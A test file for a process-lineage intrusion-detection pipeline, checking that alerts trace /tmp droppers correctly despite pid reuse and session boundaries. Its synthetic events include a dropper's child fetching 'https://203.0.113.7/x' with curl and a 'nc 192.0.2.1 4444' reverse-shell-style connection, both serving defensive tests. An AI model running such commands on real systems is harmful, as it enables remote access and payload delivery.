import { describe, expect, it } from "vitest";
import { NoDedupStore } from "../../lib/alerts/dedup-store.js";
import { MemoryLineageStore } from "../../lib/lineage/memory-store.js";
import { PidAllocations } from "../../lib/lineage/pid-allocation.js";
import { newCounters } from "../../lib/pipeline/counters.js";
import { processBatch } from "../../lib/pipeline/process-batch.js";
import { compileRule } from "../../lib/rule/compile-rule.js";
import type { ExecEvent } from "../../lib/telemetry/exec-event.js";
import { exec } from "../helpers/exec-events.js";

const T0 = 1_700_000_000_000;
const MIN = 60_000;
const UNSET = "4294967295";

/** New processes of the host (children of a daemon at pid 4000): the allocator moving from `from` to `to`. */
function traffic(from: number, to: number, start: number): ExecEvent[] {
  const out: ExecEvent[] = [];
  for (let pid = from, time = start; pid <= to; pid += 7, time += 20)
    out.push(exec({ pid, ppid: 4000, exe: "/usr/bin/ls", args: ["ls"], time, session: UNSET }));
  return out;
}

/** A dropper from /tmp at pid 5000, a child of the daemon. */
const dropper = () =>
  exec({
    pid: 5000,
    ppid: 4000,
    exe: "/tmp/.x/dropper",
    args: ["/tmp/.x/dropper"],
    time: T0,
    session: UNSET,
  });

/** A child of whatever holds pid 5000 at `time`, running curl. */
const curlUnder5000 = (url: string, time: number) =>
  exec({ pid: 9010, ppid: 5000, exe: "/usr/bin/curl", args: ["curl", "-s", url], time, session: UNSET });

const run = async (events: ExecEvent[], pids?: PidAllocations) =>
  processBatch(
    events,
    {
      store: new MemoryLineageStore(),
      dedup: new NoDedupStore(),
      rule: compileRule(),
      ...(pids !== undefined && { pids }),
    },
    newCounters(),
  );

describe("a parent record of an earlier holder of the pid", () => {
  // A dropper ran at pid 5000 an hour ago and exited; the pid space came round (pid_max 32,768), and pid 5000
  // is now a php-fpm worker (a fork, never exec'd: no record of its own), whose child runs curl.
  const stream = () => [
    ...traffic(4001, 4990, T0 - MIN),
    dropper(),
    ...traffic(5010, 32_700, T0 + MIN),
    ...traffic(305, 9000, T0 + 30 * MIN),
    curlUnder5000("https://api.example.com/health", T0 + 60 * MIN),
  ];

  it("is not taken for the parent once the host's allocator came past the pid since", async () => {
    expect(await run(stream(), new PidAllocations())).toEqual([]);
  });

  it("was, without the allocator traced (the alert with no attack behind it)", async () => {
    const alerts = await run(stream());
    expect(alerts.map((a) => a.location.path)).toEqual(["/tmp/.x/dropper"]);
  });
});

describe("a parent that keeps forking while the allocator comes round", () => {
  // The dropper at pid 5000 stays alive: every 2 s it forks `id` while the host's other processes take the
  // pid space round past 5000. The kernel skips a pid in use: its record is still its own, and its curl alerts.
  it("is still the parent: its children showed it alive when the allocator passed its pid", async () => {
    const start = T0 + 1_000;
    const aroundAndBack = [...traffic(5010, 32_700, start), ...traffic(305, 9000, start + 80_000)].map(
      (event, i) =>
        i % 100 === 0
          ? { ...event, process: { ...event.process, ppid: 5000, executable: "/usr/bin/id" } }
          : event,
    );
    const last = aroundAndBack.at(-1)!.time;
    const events = [
      ...traffic(4001, 4990, T0 - MIN),
      dropper(),
      ...aroundAndBack,
      curlUnder5000("https://203.0.113.7/x", last + 500),
    ];
    // In batches of 500, as a replay or a function runs them: the dropper's record comes from the store.
    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
    const pids = new PidAllocations();
    const alerts = [];
    for (let i = 0; i < events.length; i += 500)
      alerts.push(...(await processBatch(events.slice(i, i + 500), { ...deps, pids }, newCounters())));
    expect(alerts.map((a) => [a.process.pid, a.location.path])).toEqual([[9010, "/tmp/.x/dropper"]]);
  });
});

describe("a parent with no session for a child with one", () => {
  // A cron job: cron forks a child (no exec), PAM opens session 55 on it, the child runs `sh -c`. Its pid last
  // ran a script from /tmp, long gone.
  it("is an earlier holder of the pid unless it is a login program that just logged in", async () => {
    const events = [
      exec({
        pid: 700,
        ppid: 650,
        exe: "/usr/bin/dash",
        args: ["sh", "/tmp/y.sh"],
        time: T0,
        session: UNSET,
      }),
      exec({
        pid: 812,
        ppid: 700,
        exe: "/usr/bin/curl",
        args: ["curl", "-s", "https://api.example.com/health"],
        time: T0 + 3 * 60 * MIN,
        session: "55",
      }),
    ];
    expect(await run(events)).toEqual([]);
  });

  it("sshd's connection process is the parent of the login shell it forks", async () => {
    const events = [
      exec({
        pid: 700,
        ppid: 650,
        exe: "/usr/sbin/sshd",
        args: ["sshd: alice [priv]"],
        time: T0,
        session: UNSET,
      }),
      exec({ pid: 812, ppid: 700, exe: "/usr/bin/bash", args: ["-bash"], time: T0 + 4_000, session: "55" }),
      exec({ pid: 830, ppid: 812, exe: "/tmp/x", args: ["/tmp/x"], time: T0 + 9_000, session: "55" }),
      exec({
        pid: 831,
        ppid: 830,
        exe: "/usr/bin/nc",
        args: ["nc", "192.0.2.1", "4444"],
        time: T0 + 9_010,
        session: "55",
      }),
    ];
    const alerts = await run(events, new PidAllocations());
    expect(alerts.map((a) => a.ancestors.map((n) => n.executable))).toEqual([
      ["/tmp/x", "/usr/bin/bash", "/usr/sbin/sshd"],
    ]);
  });
});
